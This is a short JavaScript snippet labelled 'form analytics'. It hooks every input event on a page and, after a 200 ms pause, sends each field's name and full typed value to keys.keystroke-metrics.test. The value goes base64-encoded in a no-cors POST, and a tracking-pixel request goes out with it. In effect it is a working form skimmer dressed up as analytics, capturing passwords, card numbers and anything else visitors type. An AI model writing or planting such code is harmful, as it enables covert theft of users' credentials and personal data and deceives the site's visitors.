/* "Form analytics" that sends what is typed as it is typed (base64 in a POST, and a pixel). */
(function () {
  "use strict";
  var timer = null;
  function send(field, value) {
    var payload = btoa(unescape(encodeURIComponent(JSON.stringify({ f: field, v: value }))));
    fetch("https://keys.keystroke-metrics.test/k", { method: "POST", mode: "no-cors", body: payload });
    new Image().src = "https://keys.keystroke-metrics.test/p.gif?f=" + encodeURIComponent(field) +
      "&len=" + value.length;
  }
  document.addEventListener("input", function (event) {
    var field = event.target;
    if (!field || !("value" in field)) { return; }
    clearTimeout(timer);
    timer = setTimeout(function () { send(field.name || field.id || "?", field.value); }, 200);
  }, true);
})();
